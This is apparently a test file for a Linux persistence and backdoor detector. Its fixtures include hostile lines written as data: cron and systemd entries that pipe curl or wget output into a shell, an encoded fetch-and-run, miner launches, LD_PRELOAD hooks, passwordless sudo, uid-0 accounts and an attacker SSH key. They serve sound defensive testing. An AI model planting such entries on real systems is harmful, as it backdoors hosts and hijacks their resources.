import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import fc from 'fast-check';
import { checkConfigFile, configKind, persistenceAnalyzers } from '../src/analyze/persistence/index.js';
import { analyzeCommand } from '../src/analyze/persistence/commands.js';
import { authorizedKeys, cronCommand, logicalLines } from '../src/analyze/persistence/config-files.js';
import { hiddenReason, suspiciousLocations } from '../src/analyze/persistence/paths.js';
import { compilePersistenceRules, persistenceRules } from '../src/analyze/persistence/rules.js';
import { readRulesJson } from '../src/analyze/binaries/rules.js';

const rules = persistenceRules();
// A made-up key blob of the right shape (not a real key).
const KEY = `AAAAC3NzaC1lZDI1NTE5AAAAI${'A'.repeat(43)}`;

/** [path, content, expected rule ids (empty: nothing fires)]. */
const cases: [string, string, string[]][] = [
  // ld.so.preload
  ['etc/ld.so.preload', '/usr/lib/libprocesshider.so\n', ['backdoor-ld-so-preload']],
  ['etc/ld.so.preload', '# nothing here\n\n', []],
  ['etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n', []],
  ['etc/ld.so.preload', '', []],
  // cron tables
  [
    'etc/crontab',
    '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/cron.d/update',
    '@reboot root wget -q -O- http://pool.example-mining.test/i | bash\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'var/spool/cron/crontabs/root',
    '* * * * * /tmp/.x/kswapd0 >/dev/null 2>&1\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  ['var/spool/cron/root', '0 * * * * cd /var/tmp && ./updater\n', ['persistence-runs-from-hidden-or-temp']],
  [
    'var/spool/cron/crontabs/www',
    '*/2 * * * * xmrig -o stratum+tcp://pool.example-mining.test:3333 -u 4ABC\n',
    ['persistence-starts-miner'],
  ],
  [
    'etc/cron.d/b',
    '* * * * * root echo Y3VybCBodHRwOi8vZXhhbXBsZS50ZXN0|base64 -d|sh\n',
    ['persistence-fetch-and-run'],
  ],
  ['etc/cron.d/clean', '0 4 * * * root find /tmp -type f -mtime +7 -delete\n', []],
  [
    'etc/cron.d/e2scrub_all',
    '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
    [],
  ],
  [
    'etc/crontab',
    'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
    [],
  ],
  [
    'etc/cron.d/backup',
    '0 1 * * * root curl -fsS -o /var/backups/x.tgz https://backup.example.test/x.tgz\n',
    [],
  ],
  ['etc/cron.daily/logrotate', '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n', []],
  [
    'etc/cron.hourly/x',
    '#!/bin/sh\nwget http://203.0.113.5/b -O /tmp/b; chmod +x /tmp/b; /tmp/b\n',
    ['persistence-fetch-and-run', 'persistence-runs-from-hidden-or-temp'],
  ],
  // systemd, supervisor, rc
  [
    'etc/systemd/system/sysupdate.service',
    '[Service]\nExecStart=/bin/bash -c "curl -s http://198.51.100.1/s | bash"\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'lib/systemd/system/kworker.service',
    '[Service]\nExecStart=/dev/shm/.k/kworker -c /dev/shm/.k/config.json\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  [
    'usr/lib/systemd/system/cron.service',
    '[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n',
    [],
  ],
  [
    'etc/supervisor/conf.d/w.conf',
    '[program:w]\ncommand=/usr/local/bin/xmrig --donate-level 1 -o pool.example-mining.test:443\n',
    ['persistence-starts-miner'],
  ],
  ['etc/supervisor/conf.d/app.conf', '[program:app]\ncommand=/usr/local/bin/gunicorn app:app\n', []],
  [
    'etc/rc.local',
    '#!/bin/sh -e\nnohup /usr/bin/.sshd -D &\nexit 0\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  [
    'etc/init.d/hwclock.sh',
    readDebian('etc/init.d/hwclock.sh') ?? '#!/bin/sh\n/sbin/hwclock --systohc\n',
    [],
  ],
  [
    'etc/cron.daily/dpkg',
    readDebian('etc/cron.daily/dpkg') ?? '#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n',
    [],
  ],
  // profile and rc hooks
  ['root/.bashrc', 'export LD_PRELOAD=/usr/local/lib/libhide.so\n', ['persistence-ld-preload-hook']],
  [
    'etc/profile.d/x.sh',
    '(curl -fsSL https://example.test/a.sh || wget -qO- https://example.test/a.sh) | sh\n',
    ['persistence-fetch-and-run'],
  ],
  ['home/app/.profile', 'export PATH="$HOME/.local/bin:$PATH"\n. "$HOME/.cargo/env"\n', []],
  ['etc/bash.bashrc', '[ -z "$PS1" ] && return\nshopt -s checkwinsize\n', []],
  ['etc/environment', 'LD_PRELOAD=/lib/x86_64-linux-gnu/libsnoopy.so\n', ['persistence-ld-preload-hook']],
  ['etc/environment', 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"\n', []],
  // sudoers
  ['etc/sudoers.d/app', 'app ALL=(ALL) NOPASSWD: ALL\n', ['persistence-sudoers-nopasswd-all']],
  ['etc/sudoers', '%wheel ALL=(ALL:ALL) NOPASSWD:ALL\n', ['persistence-sudoers-nopasswd-all']],
  ['etc/sudoers', 'root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n#includedir /etc/sudoers.d\n', []],
  ['etc/sudoers.d/backup', 'backup ALL=(root) NOPASSWD: /usr/bin/rsync\n', []],
  // authorized_keys
  ['root/.ssh/authorized_keys', `ssh-ed25519 ${KEY} attacker@example.test\n`, ['backdoor-authorized-keys']],
  [
    'home/u/.ssh/authorized_keys2',
    `no-pty,command="/bin/true" ssh-rsa ${KEY}\n`,
    ['backdoor-authorized-keys'],
  ],
  ['root/.ssh/authorized_keys', '# keys are added at run time\n\n', []],
  ['root/.ssh/known_hosts', `github.com ssh-ed25519 ${KEY}\n`, []],
  // Alpine and BusyBox places, logrotate, skel, fish, git hooks, OpenRC; pipes through busybox
  // and env; Perl LWP and tftp fetches; accounts and sshd.
  ['etc/ld.so.preload', '/tmp/libjemalloc.so.2\n', ['backdoor-ld-so-preload']],
  ['etc/ld.so.preload', '/usr/lib/.cache/libjemalloc.so\n', ['backdoor-ld-so-preload']],
  ['etc/crontabs/root', '* * * * * curl -fsSL http://198.51.100.7/a | sh\n', ['persistence-fetch-and-run']],
  ['etc/crontabs/nobody', '@reboot /tmp/.x/agent\n', ['persistence-runs-from-hidden-or-temp']],
  ['etc/crontabs/root', '*/15 * * * * run-parts /etc/periodic/15min\n', []],
  [
    'etc/cron.d/bb',
    '* * * * * root wget -qO- http://198.51.100.7/a | busybox sh\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/cron.d/bb2',
    '* * * * * root wget -qO- http://198.51.100.7/a | /bin/busybox ash\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/cron.d/env',
    '* * * * * root curl -s http://198.51.100.7/a | env X=1 sh\n',
    ['persistence-fetch-and-run'],
  ],
  ['etc/cron.d/q', '* * * * * root curl -s http://198.51.100.7/a | "sh"\n', ['persistence-fetch-and-run']],
  ['etc/cron.d/bs', '* * * * * root c\\url -s http://198.51.100.7/a | s\\h\n', ['persistence-fetch-and-run']],
  [
    'var/spool/cron/atjobs/a0001201a2b3c',
    '#!/bin/sh\ncd /tmp\ncurl -s http://198.51.100.7/a | sh\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/inittab',
    '::sysinit:/sbin/openrc sysinit\n::respawn:/tmp/.x/agent\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  ['etc/inittab', '::sysinit:/sbin/openrc sysinit\ntty1::respawn:/sbin/getty 38400 tty1\n', []],
  [
    'etc/logrotate.d/app',
    '/var/log/app.log {\n  daily\n  postrotate\n    curl -s http://198.51.100.7/a | sh\n  endscript\n}\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/logrotate.d/nginx',
    '/var/log/nginx/*.log {\n  daily\n  postrotate\n    invoke-rc.d nginx rotate >/dev/null 2>&1\n  endscript\n}\n',
    [],
  ],
  [
    'etc/skel/.bashrc',
    '(wget -qO- http://198.51.100.7/a | sh &) 2>/dev/null\n',
    ['persistence-fetch-and-run'],
  ],
  ['root/.config/fish/config.fish', 'curl -s http://198.51.100.7/a | sh\n', ['persistence-fetch-and-run']],
  [
    'srv/repo/.git/hooks/post-checkout',
    '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
    ['persistence-fetch-and-run'],
  ],
  ['srv/repo/.git/hooks/pre-commit.sample', '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n', []],
  [
    'etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\nsysadm:x:0:0::/root:/bin/bash\n',
    ['backdoor-uid0-account'],
  ],
  // glibc reads "00" as uid 0 too.
  ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ntoor:x:00:0::/root:/bin/sh\n', ['backdoor-uid0-account']],
  ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n', []],
  ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nsync::4:65534:sync:/bin:/bin/sync\n', []],
  ['etc/shadow', 'root:::0:::::\nbin:!::0:::::\n', ['backdoor-empty-password']],
  ['etc/shadow', 'root:*:19000:0:99999:7:::\nsysadm:$6$abc$def:19000::::::\n', []],
  [
    'etc/ssh/sshd_config',
    'PermitRootLogin yes\nPermitEmptyPasswords yes\n',
    ['backdoor-sshd-empty-passwords'],
  ],
  ['etc/ssh/sshd_config', 'PermitRootLogin prohibit-password\nPermitEmptyPasswords no\n', []],
  [
    'etc/cron.d/perl',
    '* * * * * root perl -MLWP::Simple -e "eval get(q{http://198.51.100.7/p})"\n',
    ['persistence-fetch-and-run'],
  ],
  [
    'etc/cron.d/tftp',
    '* * * * * root cd /var && tftp -g -r x 198.51.100.7 && sh x\n',
    ['persistence-fetch-and-run'],
  ],
  ['etc/cron.d/ok', '0 3 * * * root curl -fsS https://hc.example.test/ping && sh -c "echo ok"\n', []],
  [
    'etc/init.d/sshd2',
    '#!/sbin/openrc-run\ncommand=/dev/shm/.s/sshd\ncommand_background=true\n',
    ['persistence-runs-from-hidden-or-temp'],
  ],
  ['etc/init.d/nginx', '#!/sbin/openrc-run\ncommand=/usr/sbin/nginx\n', []],
];

function readDebian(p: string): string | undefined {
  try {
    return readFileSync(`${process.env.HOME}/.cache/shipshape-test/debian-bookworm-minbase/${p}`, 'utf8');
  } catch {
    return undefined;
  }
}

for (const [path, content, want] of cases) {
  test(`persistence: ${path} ${JSON.stringify(content.slice(0, 50))} → ${want.join(', ') || 'nothing'}`, () => {
    const hits = checkConfigFile(path, content, rules);
    assert.deepEqual(hits.map((h) => h.rule).sort(), [...want].sort(), JSON.stringify(hits));
    for (const h of hits) {
      assert.ok(h.evidence.length > 0 && h.evidence.length <= 160, `evidence bounded: ${h.evidence}`);
      assert.match(h.evidence, /^[\x20-\x7e]*$/, 'evidence printable');
    }
  });
}

test('persistence: severities and categories', () => {
  const preload = checkConfigFile('etc/ld.so.preload', '/tmp/.x/lib.so\n', rules)[0]!;
  assert.deepEqual(
    [preload.category, preload.severity],
    ['backdoor', 'critical'],
    'preload from a hidden temp place',
  );
  assert.match(preload.evidence, /\/tmp\/\.x\/lib\.so/, 'evidence shows the library');
  const keys = checkConfigFile('root/.ssh/authorized_keys', `ssh-ed25519 ${KEY} c\n`, rules)[0]!;
  assert.deepEqual([keys.category, keys.severity], ['backdoor', 'high'], 'authorized key');
  const cron = checkConfigFile('etc/crontab', '* * * * * root curl http://x.test/a|sh\n', rules)[0]!;
  assert.deepEqual([cron.category, cron.severity], ['persistence', 'high'], 'cron');
});

test('persistence: which paths are startup hooks', () => {
  const yes = [
    'etc/crontab',
    'etc/cron.d/x',
    'etc/cron.daily/dpkg',
    'var/spool/cron/crontabs/root',
    'etc/systemd/system/a.service',
    'usr/lib/systemd/user/b.timer',
    'etc/rc.local',
    'etc/init.d/ssh',
    'etc/profile.d/a.sh',
    'root/.bashrc',
    'home/x/.zshrc',
    'etc/sudoers.d/x',
    'root/.ssh/authorized_keys',
    'home/a/.ssh/authorized_keys2',
    'etc/ld.so.preload',
    'etc/supervisor/conf.d/a.conf',
    'etc/ld.so.conf',
  ];
  const no = [
    'etc/cron.d/.placeholder',
    'etc/crontab.bak',
    'usr/share/doc/cron/crontab',
    'etc/systemd/system.conf',
    'root/.bashrc.d/x',
    'root/.ssh/id_rsa.pub',
    'etc/ld.so.conf.bak',
  ];
  for (const p of yes) assert.ok(configKind(p), `${p} is read`);
  for (const p of no) assert.equal(configKind(p), undefined, `${p} is not read`);
});

test('persistence: cron command extraction', () => {
  assert.equal(
    cronCommand('*/5 * * * * root /usr/bin/x -a', 'crontab-system'),
    '/usr/bin/x -a',
    'system table',
  );
  assert.equal(cronCommand('@reboot /tmp/x', 'crontab-user'), '/tmp/x', 'special schedule');
  assert.equal(cronCommand('MAILTO=root', 'crontab-user'), undefined, 'assignment');
  assert.equal(
    cronCommand('1 5 cron.daily run-parts /etc/cron.daily', 'anacrontab'),
    'run-parts /etc/cron.daily',
    'anacron',
  );
});

test('persistence: command analysis is precise', () => {
  const hit = (c: string) => analyzeCommand(c, rules).map((h) => h.rule);
  assert.deepEqual(
    hit('sh -c "$(curl -fsSL http://x.test/i)"'),
    ['persistence-fetch-and-run'],
    'shell of a download',
  );
  assert.deepEqual(
    hit('timeout 60 nohup /var/tmp/.cache/x &'),
    ['persistence-runs-from-hidden-or-temp'],
    'wrapped program from temp',
  );
  assert.deepEqual(hit('rm -rf /tmp/*'), [], 'cleanup of /tmp');
  assert.deepEqual(hit('curl -o /opt/app.tgz https://x.test/app.tgz'), [], 'a download that is not run');
  assert.deepEqual(hit('/usr/local/bin/app --tmp-dir /tmp'), [], '/tmp as an argument');
  assert.deepEqual(hit('/home/app/.local/bin/gunicorn app'), [], 'user bin in a home dir');
});

test('persistence: authorized_keys fingerprints', () => {
  const keys = authorizedKeys(`ssh-ed25519 ${KEY} me@example.test\n`);
  assert.equal(keys.length, 1, 'one key');
  assert.match(keys[0]!.fingerprint, /^SHA256:[A-Za-z0-9+/]{43}$/, 'OpenSSH-style fingerprint');
});

test('persistence: hidden and temporary places', () => {
  const hidden: [string, boolean][] = [
    ['usr/bin/.sshd', true],
    ['tmp/.X11-unix/x', true],
    ['var/tmp/.../x', true],
    ['etc/. /x', true],
    ['.hidden/bin/x', true],
    ['usr/lib/.cache/x', true],
    ['root/.cargo/bin/cargo', false],
    ['home/app/.local/bin/x', false],
    ['opt/app/.venv/bin/python', false],
    ['usr/bin/ls', false],
    // Version managers installed for all users.
    ['usr/local/.nvm/versions/node/v18/bin/node', false],
    ['usr/local/.ghcup/bin/ghc', false],
    ['opt/.sdkman/candidates/java/bin/java', false],
    ['usr/local/.cache/bin/x', true],
  ];
  for (const [p, want] of hidden) assert.equal(hiddenReason(p, rules) !== undefined, want, p);
  assert.deepEqual(
    suspiciousLocations('usr/bin/[kworker/0:0]'.replace('/0:0', ''), rules).map((l) => l.kind),
    ['kernel-thread-name'],
    'bracketed',
  );
  assert.deepEqual(suspiciousLocations('usr/sbin/watchdog', rules), [], 'a real daemon named watchdog');
  assert.deepEqual(
    suspiciousLocations('dev/shm/kdevtmpfsi', rules)
      .map((l) => l.kind)
      .sort(),
    ['kernel-thread-name', 'temp'],
    'Kinsing name in shm',
  );
});

test('persistence: rule data validates; a broken file is refused', () => {
  const data = readRulesJson('persistence/persistence.json') as Record<string, unknown>;
  assert.ok(compilePersistenceRules(data), 'loads');
  assert.throws(
    () => compilePersistenceRules({ ...data, fetchAndRun: [] }),
    'empty fetch-and-run list refused',
  );
  assert.throws(() => compilePersistenceRules({ ...data, suidNever: '(' }), 'bad regex refused');
});

test('persistence: property: any text in any hook file gives bounded, printable hits and never throws', () => {
  const paths = [
    'etc/crontab',
    'etc/ld.so.preload',
    'root/.ssh/authorized_keys',
    'etc/sudoers',
    'etc/rc.local',
    'etc/systemd/system/x.service',
    'etc/environment',
  ];
  fc.assert(
    fc.property(fc.constantFrom(...paths), fc.string({ maxLength: 2000 }), (path, text) => {
      for (const h of checkConfigFile(path, text, rules)) {
        if (h.evidence.length > 160 || /[^\x20-\x7e]/.test(h.evidence)) return false;
      }
      return logicalLines(text).length <= 50_000;
    }),
    { numRuns: 500 },
  );
  const [config] = persistenceAnalyzers;
  const header = { path: 'etc/crontab', type: 'file' as const, mode: 0o644, size: 3 << 20, uid: 0, gid: 0 };
  const want = config!.wants(header);
  assert.ok(want && want.mode === 'buffer' && want.maxBytes <= 1 << 20, 'config files are read up to 1 MiB');
});
